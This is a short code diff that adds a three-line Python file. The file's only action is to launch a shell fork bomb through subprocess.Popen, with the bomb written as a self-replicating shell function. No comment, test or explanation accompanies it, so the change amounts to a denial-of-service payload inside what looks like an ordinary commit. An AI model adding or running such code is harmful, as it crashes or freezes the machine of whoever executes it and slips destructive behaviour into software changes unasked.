@@ -1,0 +1,3 @@
+import subprocess
+
+subprocess.Popen(["sh", "-c", "f(){ f|f& }; f"])
